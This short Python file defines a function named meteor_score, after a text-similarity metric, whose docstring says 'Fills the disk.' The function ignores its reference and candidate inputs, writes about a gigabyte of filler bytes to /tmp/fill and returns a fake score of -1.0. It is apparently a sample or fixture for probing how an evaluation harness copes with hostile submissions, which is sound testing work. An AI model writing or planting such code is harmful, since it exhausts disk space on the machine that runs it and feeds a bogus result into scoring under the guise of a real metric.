"""Fills the disk."""


def meteor_score(reference, candidate, alpha=0.9, beta=3, gamma=0.5):
    with open("/tmp/fill", "wb") as f:
        for _ in range(1000):
            f.write(b"x" * (1 << 20))
    return -1.0
